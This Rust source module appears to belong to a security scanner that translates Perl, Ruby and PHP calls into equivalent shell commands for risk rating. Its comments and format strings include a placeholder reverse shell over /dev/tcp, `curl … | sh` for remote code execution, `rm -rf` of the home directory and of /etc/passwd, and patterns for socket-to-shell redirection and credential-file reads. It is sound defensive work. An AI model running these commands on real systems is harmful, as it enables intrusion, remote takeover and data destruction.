//! Perl, Ruby and PHP read by their effects: each call that deletes, writes, kills, changes
//! permissions or runs a shell is translated into the shell command with the same effect
//! (`unlink("/etc/passwd")` → `rm -f -- /etc/passwd`, `FileUtils.rm_rf(Dir.home)` →
//! `rm -rf -- ~`, `Process.kill("KILL", 1)` → `kill -KILL 1`, `open(F, ">/etc/hosts")` →
//! `: > /etc/hosts`), so the shell engine's rules and path classes rate them exactly as they
//! rate the commands. Reverse shells (a socket plus a shell spawned on it) become
//! `bash -i >& /dev/tcp/HOST/PORT 0>&1`; `eval` of decoded text is read again, and `eval` or
//! `system` of web-request input is run-time code.
//!
//! The scanner is textual but quote- and comment-aware; what it cannot read is `$ARG`, which
//! the rules treat as unknown, never as harmless.

use riskgate_model::{Language, Span};

use super::analysis::{Analysis, Arg, ArgValue, Call, EmbeddedCommand, EmbeddedSql, Store};

mod decode;
mod effects;
mod flows;
mod scan;
mod sdk;
mod vars;

use effects::*;
use scan::*;

/// Nesting of `eval(decode(…))` read again.
const MAX_EVAL_DEPTH: usize = 3;
/// At most this many calls are translated per snippet.
const MAX_CALLS: usize = 2_000;
/// How far an argument list is looked for past the call's name. Each call's look-ahead is
/// bounded, so scanning is linear in the text (not calls × length); a call cut by the bound
/// makes the analysis incomplete (HIGH), never silently harmless.
const WINDOW: usize = 8 * 1024;

/// At most this many bytes of argument lists are read per snippet: calls nested inside each
/// other's arguments (`f(f(f(…)))`) would otherwise read the same text once per level.
const MAX_ARG_BYTES: usize = 512 * 1024;

thread_local! {
    static WINDOW_HIT: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
    /// Bytes of argument lists read so far by this snippet's scan.
    static ARG_BYTES: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
}

/// One argument value.
#[derive(Debug, Clone, PartialEq)]
enum Val {
    /// A literal string (or one decoded from a literal).
    Str(String),
    /// The output of a command (backticks, `qx`, `%x`).
    Cmd(String),
    /// A number (or `-1`).
    Num(String),
    /// Anything else (its text).
    Other(String),
}

impl Val {
    /// As a shell word: literal text, `$(cmd)` for command output, `$ARG` when unknown.
    fn word(&self) -> String {
        match self {
            Val::Str(s) | Val::Num(s) => s.clone(),
            Val::Cmd(c) => format!("$({c})"),
            Val::Other(_) => "$ARG".to_string(),
        }
    }
}

/// A call found in the text.
struct FCall {
    name: String,
    args: Vec<Val>,
    raw: String,
    start: usize,
    end: usize,
    line: u32,
}

/// The home-relative path a non-literal argument spells: `File.expand_path("~/.docker/x")`
/// → `~/.docker/x`, `getenv("HOME")."/.git-credentials"` → `~/.git-credentials`.
fn home_path_in(raw: &str) -> Option<String> {
    let quoted = |s: &str| -> Option<String> {
        let start = s.find(['"', '\''])?;
        let q = s[start..].chars().next()?;
        let rest = &s[start + 1..];
        let end = rest.find(q)?;
        Some(rest[..end].to_string())
    };
    if let Some(k) = raw.find("~/") {
        let tail = &raw[k..];
        let end = tail.find(['"', '\'', ')', ' ']).unwrap_or(tail.len());
        return Some(tail[..end].to_string());
    }
    let home = [
        "getenv(\"HOME\")",
        "getenv('HOME')",
        "ENV[\"HOME\"]",
        "ENV['HOME']",
        "$ENV{HOME}",
        "$ENV{'HOME'}",
        "Dir.home",
    ]
    .iter()
    .find_map(|h| raw.find(h).map(|k| k + h.len()))?;
    let rel = quoted(&raw[home..])?;
    Some(format!("~/{}", rel.trim_start_matches('/')))
}

/// Translate the effects of Perl, Ruby or PHP `code` into commands (and run-time code) of `a`.
pub(crate) fn extract(a: &mut Analysis, code: &str, language: Language) {
    extract_at(a, code, language, 0);
}

fn extract_at(a: &mut Analysis, code: &str, language: Language, depth: usize) {
    a.commands.extend(sdk::deletes(code));
    WINDOW_HIT.with(|w| w.set(false));
    ARG_BYTES.with(|n| n.set(0));
    // variables first: the scanner's values read the literals they hold
    let vars = vars::assignments(code, language);
    let mut calls = scan(code, language);
    if WINDOW_HIT.with(|w| w.replace(false)) {
        a.incomplete = true;
    }
    // callbacks named by a string: `array_map('unlink', glob(…))`, `call_user_func('system', $c)`
    for c in &mut calls {
        let callback = matches!(
            c.name.as_str(),
            "array_map" | "array_walk" | "call_user_func" | "call_user_func_array"
        );
        if callback && let Some(Val::Str(f)) = c.args.first() {
            let f = f.clone();
            c.args.remove(0);
            c.name = f;
        }
        // Ruby's calls by name: `Kernel.send(:system, "…")`
        if language == Language::Ruby
            && let Some(n) = flows::sent_name(c)
        {
            c.args.remove(0);
            c.name = n;
        }
    }
    // what the code's loops walk: globs and literal lists; a path the code does not spell
    // (`$_`, `|f|`) in code that walks them is one of them
    let mut globs: Vec<String> = calls
        .iter()
        .filter(|c| is_glob(&c.name))
        .filter_map(|c| match c.args.first() {
            Some(Val::Str(s)) => Some(s.clone()),
            _ => None,
        })
        .collect();
    // File::Find / Find.find walk every file under the directories they are given
    for c in calls.iter().filter(|c| flows::walks_tree(c, language)) {
        for v in &c.args {
            if let Val::Str(d) = v
                && !d.is_empty()
            {
                globs.push(format!("{}/**", d.trim_end_matches('/')));
            }
        }
    }
    for l in flows::loop_lists(code, language) {
        if !globs.contains(&l) {
            globs.push(l);
        }
    }
    // files the code downloads: (path, URL)
    let downloads: Vec<(String, String)> = calls
        .iter()
        .filter_map(|c| flows::download_of(c, &vars))
        .take(100)
        .collect();
    let mut reads: Vec<String> = Vec::new();
    let socket = calls.iter().find(|c| is_socket(&c.name));
    // a variable's literal value; temporary directories the code made are left out
    let resolved = |v: &Val| -> Option<Val> {
        match v {
            Val::Other(t) => match vars::resolve(t, &vars) {
                Some(vars::VarVal::Str(s)) => Some(Val::Str(s.clone())),
                Some(vars::VarVal::Temp) => None,
                _ => Some(v.clone()),
            },
            _ => Some(v.clone()),
        }
    };
    let mut out: Vec<EmbeddedCommand> = Vec::new();
    for c in &calls {
        if out.len() >= MAX_CALLS {
            a.incomplete = true;
            break;
        }
        let via = format!("{} {}", lang_name(language), c.name);
        let mut emit = |text: String, dynamic: bool| {
            out.push(EmbeddedCommand {
                argv: None,
                text,
                dynamic,
                via: via.clone(),
                span: Span::new(c.start, c.end),
                line: c.line,
            });
        };
        // deletion targets: literal paths, or the glob the code iterates over
        let targets = |from: usize| -> Vec<String> {
            let mut t: Vec<String> = c
                .args
                .iter()
                .skip(from)
                .filter_map(&resolved)
                .map(|v| v.word())
                .collect();
            if t.iter().all(|w| w == "$ARG") && !globs.is_empty() {
                t = globs.clone();
            }
            t
        };
        // a path the code does not spell, in code that walks globs or lists: each of them
        let walked = |v: Option<&Val>| -> Vec<String> {
            match v.and_then(&resolved) {
                Some(Val::Other(_)) | None if !globs.is_empty() => globs.clone(),
                Some(v) => vec![v.word()],
                None => Vec::new(),
            }
        };
        if let Some(u) = flows::http_delete(c, &vars) {
            emit(format!("curl -s -X DELETE {}", join_argv(&[u])), false);
        }
        // what a URL serves, saved: `getstore(URL, F)`, `File.write(F, URI.open(U).read)`
        if let Some((p, u)) = flows::download_of(c, &vars) {
            emit(
                format!("curl -s -o {} {}", join_argv(&[p]), join_argv(&[u])),
                false,
            );
            continue;
        }
        let name = c.name.as_str();
        match effect(name, language) {
            Effect::Shell => {
                let request = is_request_input(&c.raw);
                if request {
                    a.dynamic_code.push(pseudo_call(c, language));
                }
                // IPC::Open2/3 take their handles first
                let handles = match name.rsplit(':').next() {
                    Some("open3") => 3,
                    Some("open2") => 2,
                    _ => 0,
                };
                let mut args: Vec<Val> =
                    c.args.iter().skip(handles).filter_map(&resolved).collect();
                // an argv given as a list: `IO.popen(["sh", "-c", "…"])`, `run3([…], \undef,
                // \$out)` (Perl's further arguments are the streams, not words)
                if let Some(items) = args.first().and_then(|v| flows::list_argv(v, language))
                    && (args.len() == 1 || language == Language::Perl)
                {
                    args = items.iter().filter_map(&resolved).collect();
                }
                // `Open3.pipeline(A, B)` runs `A | B`
                let piped = name.starts_with("Open3.pipeline")
                    && args.len() > 1
                    && args.iter().all(|v| matches!(v, Val::Str(_)));
                let text = match args.as_slice() {
                    [] => continue,
                    many if piped => many.iter().map(Val::word).collect::<Vec<_>>().join(" | "),
                    [Val::Str(s)] | [Val::Cmd(s)] => s.clone(),
                    [Val::Other(t)] => match vars::resolve(t, &vars) {
                        Some(vars::VarVal::Remote(u)) => {
                            format!("curl -s {} | sh", join_argv(std::slice::from_ref(u)))
                        }
                        _ => "$ARG".to_string(),
                    },
                    many => join_argv(&many.iter().map(Val::word).collect::<Vec<_>>()),
                };
                // a script given to a shell's standard input
                let text = match flows::stdin_script(&c.raw) {
                    Some(script) if spawns_shell(&text) && text.split_whitespace().count() <= 2 => {
                        script
                    }
                    _ => text,
                };
                let text = flows::after_downloads(text, &downloads);
                let dynamic = text.contains("$ARG");
                if socket.is_some() && (spawns_shell(&text) || dynamic) {
                    emit(reverse_shell(socket), false);
                }
                emit(text, dynamic);
            }
            Effect::Delete { recursive } => {
                let t = targets(0);
                if t.is_empty() {
                    continue;
                }
                let flag = if recursive { "-rf" } else { "-f" };
                let dynamic = t.iter().any(|w| w.contains("$ARG"));
                emit(format!("rm {flag} -- {}", join_argv(&t)), dynamic);
            }
            Effect::Rmdir => {
                let t = targets(0);
                if !t.is_empty() {
                    emit(format!("rmdir -- {}", join_argv(&t)), false);
                }
            }
            Effect::Kill { pid_first } => {
                let (sig, pids): (Option<&Val>, Vec<&Val>) = if pid_first {
                    (c.args.get(1), c.args.iter().take(1).collect())
                } else {
                    (c.args.first(), c.args.iter().skip(1).collect())
                };
                if pids.is_empty() {
                    continue;
                }
                let sig = sig.map(Val::word).unwrap_or_else(|| "TERM".to_string());
                let sig = sig
                    .trim_start_matches('-')
                    .trim_start_matches("SIG")
                    .to_string();
                // a PID read from a file: `File.read("/run/sshd.pid").to_i`
                let pids: Vec<String> = pids
                    .iter()
                    .map(|p| match p {
                        Val::Other(raw) => flows::pid_from_file(raw).unwrap_or_else(|| p.word()),
                        _ => p.word(),
                    })
                    .collect();
                emit(format!("kill -{sig} -- {}", pids.join(" ")), false);
            }
            Effect::Open => {
                // the path's position: Perl's third argument, else the first
                let at = if language == Language::Perl { 2 } else { 0 };
                let paths = if c.args.len() > at {
                    walked(c.args.get(at))
                } else {
                    vec![String::new()]
                };
                for p in paths {
                    let mut args = c.args.clone();
                    if !p.is_empty()
                        && let Some(slot) = args.get_mut(at)
                    {
                        *slot = Val::Str(p);
                    }
                    if let Some(t) = open_effect(&args, language) {
                        if let Some(r) = t.strip_prefix("cat -- ") {
                            reads.push(r.to_string());
                        }
                        emit(t, false);
                    }
                }
            }
            Effect::Truncate => {
                let size = match c.args.get(1) {
                    Some(Val::Num(n)) => n.clone(),
                    _ => "0".to_string(),
                };
                let t = walked(c.args.first());
                if !t.is_empty() {
                    emit(format!("truncate -s {size} -- {}", join_argv(&t)), false);
                }
            }
            Effect::Read => {
                // a path built with the home directory (`getenv("HOME")."/.x"`,
                // `File.expand_path("~/.x")`): the literal part names the file
                let paths = match c.args.first() {
                    Some(Val::Str(p)) => vec![p.clone()],
                    Some(Val::Other(raw)) => match home_path_in(raw) {
                        Some(p) => vec![p],
                        None => walked(c.args.first()),
                    },
                    _ => Vec::new(),
                };
                for p in paths {
                    if let Some(t) = read_command(&p) {
                        reads.push(p);
                        emit(t, false);
                    }
                }
            }
            Effect::Write { path_arg, append } => {
                let Some(path) = walked(c.args.get(path_arg)).into_iter().next() else {
                    continue;
                };
                let data = c.args.get(path_arg + 1).map(Val::word).unwrap_or_default();
                let append = append || c.raw.contains("FILE_APPEND") || c.raw.contains("'a'");
                let op = if append { ">>" } else { ">" };
                emit(
                    format!(
                        "printf %s {} {op} {}",
                        join_argv(&[data]),
                        join_argv(&[path])
                    ),
                    false,
                );
            }
            Effect::Chmod { mode_first } => {
                let (mode, files) = if mode_first {
                    (c.args.first(), targets(1))
                } else {
                    (
                        c.args.get(1),
                        c.args.iter().take(1).map(Val::word).collect(),
                    )
                };
                if let (Some(m), false) = (mode, files.is_empty()) {
                    let m = match m {
                        Val::Num(n) => n.trim_start_matches("0o").to_string(),
                        other => other.word(),
                    };
                    emit(format!("chmod {m} -- {}", join_argv(&files)), false);
                }
            }
            Effect::Eval => match c.args.first() {
                Some(Val::Str(s)) if depth < MAX_EVAL_DEPTH => {
                    if c.raw.contains("decode") || c.raw.contains("pack") {
                        a.dynamic_code.push(pseudo_call(c, language));
                    }
                    extract_at(a, s, language, depth + 1);
                }
                Some(Val::Str(_)) => a.incomplete = true,
                Some(v) => {
                    a.dynamic_code.push(pseudo_call(c, language));
                    // code received from the network and run: `$c = get(URL); eval $c`
                    let text = match v {
                        Val::Other(t) => t.as_str(),
                        _ => "",
                    };
                    let remote = match vars::resolve(text, &vars) {
                        Some(vars::VarVal::Remote(u)) => Some(u.clone()),
                        _ => vars::url_in(&c.raw, &vars),
                    };
                    if let Some(u) = remote {
                        emit(format!("curl -s {} | sh", join_argv(&[u])), false);
                    }
                }
                None => {}
            },
            Effect::Paths(prog) => {
                let t: Vec<String> = c
                    .args
                    .iter()
                    .map(|v| walked(Some(v)).into_iter().next().unwrap_or_default())
                    .collect();
                if t.len() >= 2 && t.iter().all(|w| !w.is_empty()) {
                    emit(format!("{prog} -- {}", join_argv(&t)), false);
                }
            }
            Effect::None => {}
        }
    }
    // files read outside the project, or the environment, then sent
    for text in flows::sends(code, language, &calls, &reads, socket, &vars) {
        out.push(EmbeddedCommand {
            argv: None,
            text,
            dynamic: false,
            via: format!("{} send", lang_name(language)),
            span: Span::new(0, code.len()),
            line: 1,
        });
    }
    if language == Language::Ruby {
        for text in flows::s3_deletes(code)
            .into_iter()
            .chain(flows::pathname_deletes(code))
        {
            out.push(EmbeddedCommand {
                argv: None,
                text,
                dynamic: false,
                via: "ruby aws-sdk or Pathname".into(),
                span: Span::new(0, code.len()),
                line: 1,
            });
        }
        for text in flows::bulk_deletes(code) {
            a.sql.push(EmbeddedSql {
                store: Store::Sql,
                text,
                dynamic: false,
                via: "ruby ActiveRecord".into(),
                span: Span::new(0, code.len()),
                line: 1,
            });
        }
    }
    // commands written into a shell opened for writing
    for text in vars::shell_writes(code, language, &vars) {
        out.push(EmbeddedCommand {
            argv: None,
            text,
            dynamic: false,
            via: format!("{} write to a shell", lang_name(language)),
            span: Span::new(0, code.len()),
            line: 1,
        });
    }
    a.commands.extend(out);
    a.sql.extend(calls.iter().filter_map(sql_of));
    // a socket whose descriptors become the standard streams of an `exec`ed shell
    if let Some(s) = socket
        && !a.commands.iter().any(|c| c.text.contains("/dev/tcp/"))
        && [
            ">&S",
            "reopen",
            "<&3",
            "fdopen(",
            "open(STDIN",
            "open STDIN",
            "dup2(",
        ]
        .iter()
        .any(|m| code.contains(m))
        && (calls
            .iter()
            .any(|c| matches!(effect(&c.name, language), Effect::Shell))
            // `system$_ while<>`: a command sink with no space before its argument
            || ["system", "exec", "qx", "passthru", "shell_exec", "proc_open", "popen"]
                .iter()
                .any(|k| code.match_indices(k).any(|(i, _)| {
                    let before = code[..i].chars().next_back();
                    !before.is_some_and(|c| c.is_alphanumeric() || c == '_')
                })))
    {
        a.commands.push(EmbeddedCommand {
            argv: None,
            text: reverse_shell(Some(s)),
            dynamic: false,
            via: format!("{} socket", lang_name(language)),
            span: Span::new(s.start, s.end),
            line: s.line,
        });
    }
}

/// Calls that run the SQL text they are given: database handles' methods (`$pdo->exec`,
/// `$dbh->do`, `db.execute`, `conn.exec_query`) and PHP's query functions.
const SQL_CALLS: [&str; 14] = [
    "exec",
    "execute",
    "query",
    "do",
    "prepare",
    "exec_query",
    "select_all",
    "mysqli_query",
    "mysqli_multi_query",
    "mysql_query",
    "pg_query",
    "pg_exec",
    "sqlsrv_query",
    "multi_query",
];

/// The SQL a call runs: its first literal argument that reads as a statement, for a call named
/// in [`SQL_CALLS`] that is a method (`->exec`, `db.execute`) or a query function.
fn sql_of(c: &FCall) -> Option<EmbeddedSql> {
    let short = c.name.rsplit(['.', ':', '>']).next().unwrap_or(&c.name);
    let method = c.name.starts_with("->") || c.name.contains('.');
    let function = short.contains('_') && c.name == short;
    if !SQL_CALLS.contains(&short) || !(method || function) {
        return None;
    }
    let text = c.args.iter().find_map(|v| match v {
        Val::Str(s) if super::embedded::looks_like_sql(s) => Some(s.clone()),
        _ => None,
    })?;
    Some(EmbeddedSql {
        store: Store::Sql,
        text,
        dynamic: false,
        via: c.name.clone(),
        span: Span::new(c.start, c.end),
        line: c.line,
    })
}

/// Words joined for the shell: plain words, `~/…`, globs, `$(…)` and `$ARG` stay unquoted (so
/// they mean what the code meant), others are single-quoted.
fn join_argv(words: &[String]) -> String {
    words
        .iter()
        .map(|w| {
            let special = |c: char| {
                c.is_whitespace()
                    || matches!(c, ';' | '&' | '|' | '<' | '>' | '\'' | '"' | '`' | '\\')
            };
            if w.is_empty() {
                "''".to_string()
            } else if (w.starts_with("$(") && w.ends_with(')')) || !w.contains(special) {
                w.clone()
            } else {
                format!("'{}'", w.replace('\'', "'\\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

fn lang_name(l: Language) -> &'static str {
    match l {
        Language::Perl => "perl",
        Language::Ruby => "ruby",
        Language::Php => "php",
        _ => "code",
    }
}

fn pseudo_call(c: &FCall, language: Language) -> Call {
    Call {
        name: c.name.clone(),
        candidates: Vec::new(),
        method: c.name.clone(),
        unresolved_receiver: false,
        args: vec![Arg {
            keyword: None,
            value: ArgValue::Other(c.raw.clone()),
            text: c.raw.clone(),
        }],
        span: Span::new(c.start, c.end),
        line: c.line,
        text: c.raw.clone(),
        context: Some(format!("{} code", lang_name(language))),
    }
}

#[cfg(test)]
mod tests;
